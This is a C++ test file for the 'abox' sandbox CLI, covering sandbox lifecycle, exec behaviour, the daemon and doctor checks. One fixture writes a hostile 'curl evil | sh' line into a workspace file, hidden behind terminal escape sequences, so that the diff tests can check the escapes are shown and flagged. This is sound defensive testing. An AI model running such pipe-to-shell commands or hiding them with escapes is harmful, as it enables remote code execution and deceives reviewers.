// The real `abox` binary's daemon commands against the real daemon over a fake VMM
// (aboxd-fake-vmm, src/daemon/testing: its VMs run the real guest agent as processes of this
// user, so a sandbox's commands run on this host and its /workspace is a host directory), which
// abox itself starts on demand. What a user types and sees: output, errors and exit codes.
#include <pty.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <thread>

#include "absl/strings/match.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "nlohmann/json.hpp"
#include "src/base/io.h"
#include "src/http/testing/test_server.h"
#include "tests/testing/abox_runner.h"
#include "tests/testing/cli_daemon_test.h"

extern char** environ;

namespace abox::cli {
namespace {

using nlohmann::json;
using testing::AboxCall;
using testing::AboxResult;
using ::testing::HasSubstr;
using ::testing::MatchesRegex;
using ::testing::Not;
using ::testing::StartsWith;

class CliCommandsTest : public testing::CliDaemonTest {
 protected:
  // Creates a sandbox named `name` and returns its id.
  std::string Create(const std::string& name) {
    AboxResult r = Abox({"create", "--name", name});
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_THAT(r.out, MatchesRegex("[0-9a-f]{12}\n"));  // the id and a newline, nothing else
    return r.out.substr(0, r.out.size() - 1);
  }
  // What a guest printing `text` on its console does: QEMU (here the fake VMM) appends it to
  // console.log in the sandbox's run dir, which `abox logs --console` shows.
  void GuestConsole(const std::string& id, const std::string& text) {
    std::ofstream(dir_.path() + "/home/sandboxes/" + id + "/console.log", std::ios::app) << text;
  }
  // A sandbox `name` whose workspace is a copy of a host directory holding install.sh, and whose
  // guest then wrote terminal escapes into it and added notes.txt (the fake VM's /workspace is
  // the host directory `guest`).
  void CreateHostileWorkspace(const std::string& name) {
    std::string host = dir_.path() + "/project";
    std::string guest = dir_.path() + "/guest";
    std::filesystem::create_directories(host);
    std::filesystem::create_directories(guest);
    std::ofstream(host + "/install.sh") << "echo hi\n";
    AboxResult r = Abox({"create", "--name", name, "-w", host, "--workspace-path", guest});
    ASSERT_EQ(r.exit_code, 0) << r.err;
    // Its added line erases itself on a terminal and the carriage return lets "# a comment"
    // take its place; then a C1 CSI and DEL.
    std::ofstream(guest + "/install.sh", std::ios::app) << "curl evil | sh \x1b[2K\r# a comment "
                                                           "\xc2\x9b"
                                                           "31m \x7f\n";
    std::ofstream(guest + "/notes.txt") << "a\tb\n";
  }
};

TEST_F(CliCommandsTest, CreateListInspectStopAndRemove) {
  AboxResult created = Abox({"create", "--name", "web", "-l", "app=web", "--ttl", "2h", "--cpus",
                             "2", "--memory", "1536"});
  ASSERT_EQ(created.exit_code, 0) << created.err;
  std::string id = created.out.substr(0, created.out.size() - 1);

  AboxResult ls = Abox({"ls"});
  EXPECT_EQ(ls.exit_code, 0) << ls.err;
  EXPECT_THAT(ls.out, StartsWith("ID            NAME  IMAGE    STATE  CPUS  MEM      DISK    AGE  "
                                 "EXPIRES  LABELS\n"));
  EXPECT_THAT(ls.out,
              HasSubstr(id.substr(0, 12) + "  web   default  ready  2     1.5 GiB  16 GiB  "));
  EXPECT_THAT(ls.out, HasSubstr("in 2h    app=web\n"));
  EXPECT_EQ(Abox({"ls", "-q", "-l", "app=web"}).out, id + "\n");
  EXPECT_EQ(Abox({"ls", "-q", "-l", "app=other"}).out, "");
  json listed = json::parse(Abox({"ls", "--json"}).out, nullptr, false);
  ASSERT_TRUE(listed.is_object());
  EXPECT_EQ(listed["sandboxes"][0]["labels"]["app"], "web");

  AboxResult inspect = Abox({"inspect", "web", "nope"});
  EXPECT_EQ(inspect.exit_code, 1);
  EXPECT_EQ(json::parse(inspect.out, nullptr, false)["id"], id);
  EXPECT_THAT(inspect.err, HasSubstr("abox: error: no sandbox 'nope'"));

  AboxResult refused = Abox({"rm", "web"});
  EXPECT_EQ(refused.exit_code, 1);
  EXPECT_THAT(refused.err, HasSubstr("remove it anyway with force (abox rm -f " + id + ")"));
  AboxResult stopped = Abox({"stop", id.substr(0, 6)});
  EXPECT_EQ(stopped.exit_code, 0) << stopped.err;
  EXPECT_EQ(stopped.out, id.substr(0, 6) + "\n");
  EXPECT_THAT(Abox({"ls"}).out, Not(HasSubstr("web")));
  EXPECT_THAT(Abox({"ls", "-a"}).out, HasSubstr("web   default  stopped"));
  AboxResult removed = Abox({"rm", "web", "ghost"});
  EXPECT_EQ(removed.exit_code, 1);
  EXPECT_EQ(removed.out, "web\n");
  EXPECT_THAT(removed.err, HasSubstr("no sandbox 'ghost'"));
  EXPECT_EQ(Abox({"ls", "-a", "-q"}).out, "");
}

TEST_F(CliCommandsTest, ExecKeepsStreamsAndExitStatusConventions) {
  Create("web");
  AboxResult r = Abox({"exec", "web", "--", "sh", "-c", "echo out; echo err >&2; exit 3"});
  EXPECT_EQ(r.exit_code, 3);
  EXPECT_EQ(r.out, "out\n");
  EXPECT_EQ(r.err, "err\n");
  EXPECT_EQ(Abox({"exec", "web", "--", "sh", "-c", "kill -TERM $$"}).exit_code, 128 + SIGTERM);
  AboxResult missing = Abox({"exec", "web", "--", "no-such-command-abox"});
  EXPECT_EQ(missing.exit_code, 127);
  EXPECT_THAT(missing.err, HasSubstr("no-such-command-abox: command not found"));
  AboxResult slow = Abox({"exec", "--timeout", "0.2", "web", "--", "sleep", "30"});
  EXPECT_EQ(slow.exit_code, 124);
  EXPECT_THAT(slow.err, HasSubstr("timed out after 0.2s"));
  // Without `--`, everything after the id is the command, its flags included.
  AboxResult bare = Abox({"exec", "-e", "FOO=bar baz", "--workdir", "/tmp", "web", "sh", "-c",
                          "echo \"$FOO\"; pwd", "-x"});
  EXPECT_EQ(bare.exit_code, 0) << bare.err;
  EXPECT_EQ(bare.out, "bar baz\n/tmp\n");
  AboxResult nosandbox = Abox({"exec", "ghost", "--", "true"});
  EXPECT_EQ(nosandbox.exit_code, 125);
  EXPECT_THAT(nosandbox.err, HasSubstr("no sandbox 'ghost'"));
}

TEST_F(CliCommandsTest, ExecForwardsStdinAndBinaryOutput) {
  Create("web");
  AboxResult upper = Abox({"exec", "web", "--", "tr", "a-z", "A-Z"}, "hello from the host\n");
  EXPECT_EQ(upper.exit_code, 0) << upper.err;
  EXPECT_EQ(upper.out, "HELLO FROM THE HOST\n");
  std::string binary = "\xff\xfe" + std::string(1, '\0') + "\x01 text " + std::string(300000, 'z');
  AboxResult echoed = Abox({"exec", "web", "--", "cat"}, binary);
  EXPECT_EQ(echoed.exit_code, 0) << echoed.err;
  EXPECT_TRUE(echoed.out == binary) << echoed.out.size() << " bytes back";
  AboxResult closed = Abox({"exec", "--no-stdin", "web", "--", "wc", "-c"}, "ignored");
  EXPECT_EQ(closed.out, "0\n");
}

TEST_F(CliCommandsTest, CtrlCGoesToTheCommandAndASecondOneLeaves) {
  Create("web");
  AboxCall call;
  call.env = env_;
  call.timeout_seconds = 60;
  call.args = {"exec", "web",
               "--",   "sh",
               "-c",   "trap 'echo got INT; exit 7' INT; echo ready; while :; do sleep 0.05; done"};
  call.when_output = "ready";
  call.on_output = [](pid_t pid) { ::kill(pid, SIGINT); };
  AboxResult trapped = testing::RunAbox(call);
  EXPECT_EQ(trapped.exit_code, 7) << trapped.err;
  EXPECT_EQ(trapped.out, "ready\ngot INT\n");

  call.args = {"exec", "web", "--",
               "sh",   "-c",  "trap 'echo ignored' INT; echo ready; while :; do sleep 0.05; done"};
  std::thread second;
  call.on_output = [&second](pid_t pid) {
    second = std::thread([pid] {
      ::kill(pid, SIGINT);
      // Apart, so that they are two signals (pending ones of a kind merge).
      std::this_thread::sleep_for(std::chrono::milliseconds(300));
      ::kill(pid, SIGINT);
    });
  };
  AboxResult left = testing::RunAbox(call);
  second.join();
  EXPECT_EQ(left.exit_code, 130);
  EXPECT_THAT(left.err, HasSubstr("interrupted again"));
  // kill_on_disconnect: the daemon killed the command once abox left.
  std::string history;
  for (int i = 0; i < 100 && !absl::StrContains(history, "killed by SIGKILL"); ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
    history = Abox({"logs", "--execs", "web"}).out;
  }
  EXPECT_THAT(history, HasSubstr("echo ignored"));
  EXPECT_THAT(history, HasSubstr("done' -> killed by SIGKILL"));
}

TEST_F(CliCommandsTest, LogsShowExecHistoryThenConsole) {
  std::string id = Create("web");
  GuestConsole(id, "[    0.000000] Linux version fake\nabox-guest: ready in web\n");
  ASSERT_EQ(Abox({"exec", "web", "--", "sh", "-c", "echo first"}).exit_code, 0);
  ASSERT_EQ(Abox({"exec", "web", "--", "sh", "-c", "echo second; exit 2"}).exit_code, 2);
  AboxResult logs = Abox({"logs", "web"});
  EXPECT_EQ(logs.exit_code, 0) << logs.err;
  size_t first = logs.out.find("sh -c 'echo first' -> exited 0");
  size_t second = logs.out.find("sh -c 'echo second; exit 2' -> exited 2");
  size_t console = logs.out.find("==> console log of sandbox web");
  ASSERT_NE(first, std::string::npos) << logs.out;
  EXPECT_LT(first, second);  // oldest first
  EXPECT_LT(second, console);
  EXPECT_THAT(logs.out, HasSubstr("exited 0 ("));
  EXPECT_THAT(logs.out, HasSubstr("\nfirst\n"));
  EXPECT_THAT(logs.out, HasSubstr("Linux version fake"));
  EXPECT_EQ(Abox({"logs", "--console", "-n", "1", "web"}).out, "abox-guest: ready in web\n");
  EXPECT_THAT(Abox({"logs", "--execs", "-n", "1", "web"}).out, Not(HasSubstr("echo first")));
}

TEST_F(CliCommandsTest, EventsFollowTheLifecycle) {
  Create("web");
  ASSERT_EQ(Abox({"rm", "-f", "web"}).exit_code, 0);
  AboxCall call;
  call.env = env_;
  call.timeout_seconds = 60;
  call.args = {"events", "--since", "0"};
  call.when_output = "removed";
  call.on_output = [](pid_t pid) { ::kill(pid, SIGTERM); };
  AboxResult events = testing::RunAbox(call);
  EXPECT_THAT(events.out, HasSubstr("  created        "));
  EXPECT_THAT(events.out, HasSubstr("  stopped        "));
  EXPECT_THAT(events.out, HasSubstr("  removed        "));
  AboxResult unknown = Abox({"events", "--sandbox", "ghost"});
  EXPECT_EQ(unknown.exit_code, 1);
  EXPECT_THAT(unknown.err, HasSubstr("no sandbox 'ghost'"));
}

TEST_F(CliCommandsTest, DaemonStartStatusStopAndUnit) {
  AboxResult down = Abox({"daemon", "status"});
  EXPECT_EQ(down.exit_code, 1);
  EXPECT_THAT(down.err, HasSubstr("aboxd is not running"));
  EXPECT_THAT(down.err, HasSubstr("abox daemon start"));
  AboxResult started = Abox({"daemon", "start", "--max-cpus", "4"});
  EXPECT_EQ(started.exit_code, 0) << started.err;
  EXPECT_THAT(started.out, HasSubstr("aboxd started (pid "));
  EXPECT_THAT(started.out, HasSubstr(dir_.path() + "/home/logs/aboxd.log"));
  AboxResult again = Abox({"daemon", "start"});
  EXPECT_EQ(again.exit_code, 1);
  EXPECT_THAT(again.err, HasSubstr("already running"));
  AboxResult status = Abox({"daemon", "status"});
  EXPECT_EQ(status.exit_code, 0) << status.err;
  EXPECT_THAT(status.out, HasSubstr("aboxd      running, pid "));
  EXPECT_THAT(status.out, HasSubstr("vCPUs      0 of 4 in use\n"));
  json as_json = json::parse(Abox({"daemon", "status", "--json"}).out, nullptr, false);
  EXPECT_EQ(as_json["health"]["status"], "ok");
  EXPECT_EQ(as_json["socket"], dir_.path() + "/run/aboxd.sock");
  AboxResult stopped = Abox({"daemon", "stop"});
  EXPECT_EQ(stopped.exit_code, 0) << stopped.err;
  EXPECT_THAT(stopped.out, HasSubstr(") stopped"));
  EXPECT_THAT(Abox({"daemon", "stop"}).out, HasSubstr("aboxd is not running"));

  AboxResult unit = Abox({"daemon", "unit", "--install"});
  EXPECT_EQ(unit.exit_code, 0) << unit.err;
  EXPECT_THAT(unit.out, HasSubstr("systemctl --user daemon-reload && systemctl --user enable"));
  absl::StatusOr<std::string> file =
      base::ReadFile(dir_.path() + "/config/systemd/user/aboxd.service");
  ASSERT_TRUE(file.ok()) << file.status();
  EXPECT_THAT(*file, HasSubstr(std::string("\nExecStart=") + ABOXD_FAKE_VMM + " --socket " +
                               dir_.path() + "/run/aboxd.sock\n"));
  EXPECT_EQ(Abox({"daemon", "unit"}).out, *file);
}

TEST_F(CliCommandsTest, DaemonThatCannotStartIsExplained) {
  env_["ABOX_NO_AUTOSTART"] = "1";
  AboxResult off = Abox({"ls"});
  EXPECT_EQ(off.exit_code, 1);
  EXPECT_THAT(off.err, HasSubstr("run `abox daemon start`"));
  std::string script = dir_.path() + "/aboxd";
  ASSERT_TRUE(
      base::WriteFileAtomic(script, "#!/bin/sh\necho 'port in use' >&2\nexit 1\n", 0755).ok());
  env_["ABOX_NO_AUTOSTART"] = "";
  env_["ABOXD_BIN"] = script;
  AboxResult failed = Abox({"exec", "web", "--", "true"});
  EXPECT_EQ(failed.exit_code, 125);
  EXPECT_THAT(failed.err, HasSubstr("exited with exit code 1"));
  EXPECT_THAT(failed.err, HasSubstr("  port in use"));
  EXPECT_THAT(failed.err, HasSubstr(dir_.path() + "/home/logs/aboxd.log"));
}

TEST_F(CliCommandsTest, UsageErrorsSayWhatToType) {
  AboxResult no_command = Abox({"exec", "web"});
  EXPECT_EQ(no_command.exit_code, 2);
  EXPECT_THAT(no_command.err, HasSubstr("abox exec web -- uname -a"));
  AboxResult bad_ttl = Abox({"create", "--ttl", "5x"});
  EXPECT_EQ(bad_ttl.exit_code, 1);
  EXPECT_THAT(bad_ttl.err, HasSubstr("--ttl: '5x' is not a duration"));
  AboxResult bad_env = Abox({"exec", "-e", "NOVALUE", "web", "--", "true"});
  EXPECT_EQ(bad_env.exit_code, 125);
  EXPECT_THAT(bad_env.err, HasSubstr("-e/--env expects NAME=VALUE, got 'NOVALUE'"));
  AboxResult bad_label = Abox({"ls", "-l", "app"});
  EXPECT_EQ(bad_label.exit_code, 1);
  EXPECT_THAT(bad_label.err, HasSubstr("expects KEY=VALUE"));
}

TEST_F(CliCommandsTest, UnknownFlagsAreRefusedWithTheNearestSpelling) {
  Create("web");
  // The three: each used to be dropped, changing what ran.
  AboxResult memory = Abox({"run", "--memroy", "2048", "--", "true"});
  EXPECT_EQ(memory.exit_code, 2) << memory.err;
  EXPECT_THAT(memory.err, HasSubstr("abox run: unknown flag --memroy; did you mean --memory?"));
  AboxResult root = Abox({"run", "--rot", "--", "id", "-u"});
  EXPECT_EQ(root.exit_code, 2) << root.err;
  EXPECT_THAT(root.err, HasSubstr("unknown flag --rot; did you mean --root?"));
  AboxResult timeout = Abox({"exec", "--tiemout", "1", "web", "--", "echo", "ran"});
  EXPECT_EQ(timeout.exit_code, 2) << timeout.err;
  EXPECT_THAT(timeout.err, HasSubstr("abox exec: unknown flag --tiemout; did you mean --timeout?"));
  EXPECT_THAT(timeout.err, Not(HasSubstr("no sandbox '1'")));
  EXPECT_EQ(timeout.out, "");
  EXPECT_THAT(Abox({"logs", "--execs", "web"}).out, HasSubstr("no execs"));  // nothing ran
  // Without `--` too, and after the id.
  EXPECT_THAT(Abox({"exec", "web", "--rot", "id"}).err, HasSubstr("did you mean --root?"));
  // Every other command refuses them as well, and unknown commands.
  AboxResult ls = Abox({"ls", "--jsno"});
  EXPECT_EQ(ls.exit_code, 2);
  EXPECT_THAT(ls.err, HasSubstr("abox ls: unknown flag --jsno; did you mean --json?"));
  AboxResult diff = Abox({"diff", "--stta", "web"});
  EXPECT_EQ(diff.exit_code, 2);
  EXPECT_THAT(diff.err, HasSubstr("did you mean --stat?"));
  AboxResult command = Abox({"exce", "web"});
  EXPECT_EQ(command.exit_code, 2);
  EXPECT_THAT(command.err, HasSubstr("unknown command 'exce'; did you mean exec?"));
  AboxResult daemon = Abox({"daemon", "start", "--max-cpu", "4"});
  EXPECT_EQ(daemon.exit_code, 2);
  EXPECT_THAT(daemon.err, HasSubstr("abox daemon start: unknown flag --max-cpu; did you mean "
                                    "--max-cpus?"));
}

TEST_F(CliCommandsTest, ArgumentsAfterTheSeparatorStayTheCommands) {
  Create("web");
  AboxResult flags =
      Abox({"exec", "web", "--", "sh", "-c", "echo \"$@\"", "sh", "--memroy", "--rot", "-x"});
  EXPECT_EQ(flags.exit_code, 0) << flags.err;
  EXPECT_EQ(flags.out, "--memroy --rot -x\n");
  // A `--` after the command's first word is the command's own.
  AboxResult echo = Abox({"exec", "web", "echo", "--", "hi"});
  EXPECT_EQ(echo.exit_code, 0) << echo.err;
  EXPECT_EQ(echo.out, "-- hi\n");
  // `abox run` parses none of the command's flags either (it then fails to boot: no image).
  AboxResult run = Abox({"run", "--image", "no-such-image", "--", "sh", "-c", "x", "--memroy"});
  EXPECT_EQ(run.exit_code, 125) << run.err;
  EXPECT_THAT(run.err, Not(HasSubstr("unknown flag")));
}

// Runs abox with stdin, stdout and stderr on a terminal (a PTY without output processing) and
// returns what the terminal received.
std::string AboxOnATerminal(const std::map<std::string, std::string>& env,
                            const std::vector<std::string>& args) {
  int master = -1;
  int slave = -1;
  EXPECT_EQ(::openpty(&master, &slave, nullptr, nullptr, nullptr), 0);
  termios t{};
  ::tcgetattr(slave, &t);
  t.c_oflag &= ~OPOST;  // "\n" stays "\n": what arrives is what abox wrote
  ::tcsetattr(slave, TCSANOW, &t);
  std::vector<std::string> strings = {ABOX_CLI_BIN};
  strings.insert(strings.end(), args.begin(), args.end());
  std::vector<std::string> environment;
  for (char** e = environ; *e != nullptr; ++e) {
    std::string kv(*e);
    if (env.count(kv.substr(0, kv.find('='))) == 0) {
      environment.push_back(kv);
    }
  }
  for (const auto& [k, v] : env) {
    if (!v.empty()) {
      environment.push_back(k + "=" + v);
    }
  }
  std::vector<char*> argv;
  for (std::string& a : strings) {
    argv.push_back(a.data());
  }
  argv.push_back(nullptr);
  std::vector<char*> envp;
  for (std::string& e : environment) {
    envp.push_back(e.data());
  }
  envp.push_back(nullptr);
  pid_t pid = ::fork();
  if (pid == 0) {
    ::setsid();
    ::dup2(slave, 0);
    ::dup2(slave, 1);
    ::dup2(slave, 2);
    ::execve(argv[0], argv.data(), envp.data());
    ::_exit(127);
  }
  ::close(slave);
  std::string seen;
  char buf[4096];
  ssize_t n;
  while ((n = ::read(master, buf, sizeof(buf))) > 0 || (n < 0 && errno == EINTR)) {
    if (n > 0) {
      seen.append(buf, static_cast<size_t>(n));
    }
  }
  ::close(master);
  int status = 0;
  ::waitpid(pid, &status, 0);
  return seen;
}

TEST_F(CliCommandsTest, DiffShowsTheGuestsControlCharactersOnATerminalOnly) {
  CreateHostileWorkspace("hostile");
  // Piped: the patch byte for byte, so that `abox diff ID > patch` applies.
  AboxResult piped = Abox({"diff", "hostile"});
  EXPECT_EQ(piped.exit_code, 0) << piped.err;
  EXPECT_THAT(piped.out, HasSubstr("+curl evil | sh \x1b[2K\r# a comment \xc2\x9b"
                                   "31m \x7f\n"));
  EXPECT_THAT(piped.out, HasSubstr("+a\tb\n"));
  EXPECT_THAT(piped.err, HasSubstr("1 file holds control characters: install.sh"));

  // On a terminal: shown, not obeyed; tab and newline as they are.
  std::string shown = AboxOnATerminal(env_, {"diff", "hostile"});
  EXPECT_THAT(shown, HasSubstr("+curl evil | sh \\x1b[2K\\x0d# a comment \\u009b31m \\x7f\n"));
  EXPECT_THAT(shown, HasSubstr("+a\tb\n"));
  EXPECT_THAT(shown, Not(HasSubstr("\x1b")));
  EXPECT_THAT(shown, Not(HasSubstr("\r")));
  EXPECT_THAT(shown, Not(HasSubstr("\xc2\x9b")));

  // --stat flags the file; --json has a boolean per file.
  AboxResult stat = Abox({"diff", "--stat", "hostile"});
  EXPECT_EQ(stat.exit_code, 0) << stat.err;
  EXPECT_THAT(stat.out, HasSubstr("| 1 +  [control characters]\n"));
  EXPECT_THAT(stat.out, HasSubstr("notes.txt"));
  EXPECT_THAT(stat.out, HasSubstr("| 1 +\n"));  // notes.txt, not flagged
  AboxResult as_json = Abox({"diff", "--json", "hostile"});
  json diff = json::parse(as_json.out, nullptr, false);
  ASSERT_TRUE(diff.is_object()) << as_json.out;
  EXPECT_EQ(diff["files"][0]["control_characters"], true);
  EXPECT_EQ(diff["files"][1]["control_characters"], false);
  EXPECT_EQ(diff["files"][0]["patch"],
            "diff --git a/install.sh b/install.sh\n--- a/install.sh\n+++ b/install.sh\n@@ -1 +1,2 "
            "@@\n echo "
            "hi\n+curl evil | sh \x1b[2K\r# a comment \xc2\x9b"
            "31m \x7f\n");
  json stat_json = json::parse(Abox({"diff", "--json", "--stat", "hostile"}).out, nullptr, false);
  EXPECT_EQ(stat_json["files"][0]["control_characters"], true);
  EXPECT_FALSE(stat_json["files"][0].contains("patch"));
  // On a terminal, the JSON's raw C1 and DEL become JSON escapes: the same JSON, shown.
  std::string json_shown = AboxOnATerminal(env_, {"diff", "--json", "hostile"});
  EXPECT_THAT(json_shown, HasSubstr("\\u001b[2K\\r# a comment \\u009b31m \\u007f"));
  EXPECT_EQ(json::parse(json_shown, nullptr, false), diff);
}

TEST_F(CliCommandsTest, ConsoleLogShowsTheGuestsControlCharactersOnATerminal) {
  GuestConsole(Create("hostile"),
               "evil \x1b[2K\rfine \xc2\x9b"
               "31m\n");
  std::string raw = Abox({"logs", "--console", "hostile"}).out;
  EXPECT_THAT(raw, HasSubstr("evil \x1b[2K\rfine \xc2\x9b"
                             "31m\n"));
  std::string shown = AboxOnATerminal(env_, {"logs", "--console", "hostile"});
  EXPECT_THAT(shown, HasSubstr("evil \\x1b[2K\\x0dfine \\u009b31m\n"));
  EXPECT_THAT(shown, Not(HasSubstr("\x1b")));
}

TEST_F(CliCommandsTest, DaemonHelpSaysSandboxesKeepRunning) {
  for (const std::vector<std::string>& args :
       {std::vector<std::string>{"daemon", "--help"}, {"daemon", "stop", "--help"}}) {
    AboxResult help = Abox(args);
    EXPECT_EQ(help.exit_code, 0) << help.err;
    EXPECT_THAT(help.out, HasSubstr("keep running")) << help.out;
    EXPECT_THAT(help.out, HasSubstr("re-attaches"));
    EXPECT_THAT(help.out, Not(HasSubstr("stops its sandboxes")));
  }
}

TEST_F(CliCommandsTest, ShellRunsALoginShell) {
  Create("web");
  AboxResult r = Abox({"shell", "web"}, "echo \"in $0\"; exit 5\n");
  EXPECT_EQ(r.exit_code, 5) << r.err;
  EXPECT_THAT(r.out, HasSubstr("in "));
}

// abox doctor observes: without a daemon it warns and starts none, a failed check makes it exit
// 1, and with the daemon up it reads the daemon's socket and state.
TEST_F(CliCommandsTest, DoctorObservesStartsNoDaemonAndExitsOneWhenACheckFails) {
  AboxResult idle = Abox({"doctor", "--json", "--quick"});
  json report = json::parse(idle.out, nullptr, false);
  ASSERT_FALSE(report.is_discarded()) << idle.out << idle.err;
  auto check = [](const json& r, const std::string& name) {
    for (const json& c : r["checks"]) {
      if (c["name"] == name) {
        return c;
      }
    }
    return json();
  };
  EXPECT_EQ(check(report, "daemon.running")["status"], "warn");
  EXPECT_THAT(check(report, "daemon.running")["fix"].get<std::string>(),
              HasSubstr("abox daemon start"));
  EXPECT_EQ(idle.exit_code, report["summary"]["fail"].get<int>() > 0 ? 1 : 0) << idle.out;
  EXPECT_FALSE(std::filesystem::exists(dir_.path() + "/run/aboxd.sock")) << "doctor started aboxd";

  // State others can read is a failure: exit 1, in the text too.
  std::filesystem::create_directories(dir_.path() + "/home");
  ASSERT_TRUE(base::WriteFileAtomic(dir_.path() + "/home/state.db", "", 0644).ok());
  AboxResult loose = Abox({"doctor", "--quick"});
  EXPECT_EQ(loose.exit_code, 1) << loose.out;
  EXPECT_THAT(loose.out, HasSubstr("fail  daemon.state_files"));
  EXPECT_THAT(loose.out, HasSubstr("RESIDUAL RISKS"));
  ASSERT_EQ(::chmod((dir_.path() + "/home/state.db").c_str(), 0600), 0);

  ASSERT_EQ(Abox({"daemon", "start"}).exit_code, 0);
  AboxResult up = Abox({"doctor", "--json", "--quick"});
  json running = json::parse(up.out, nullptr, false);
  ASSERT_FALSE(running.is_discarded()) << up.out << up.err;
  EXPECT_EQ(check(running, "daemon.running")["status"], "pass");
  EXPECT_EQ(check(running, "daemon.socket")["status"], "pass");
  EXPECT_EQ(check(running, "daemon.socket_dir")["status"], "pass");
  EXPECT_EQ(check(running, "daemon.state_files")["status"], "pass");
  EXPECT_EQ(check(running, "daemon.tcp")["status"], "pass");
  EXPECT_EQ(check(running, "sandbox.none")["status"], "info");
}

}  // namespace
}  // namespace abox::cli
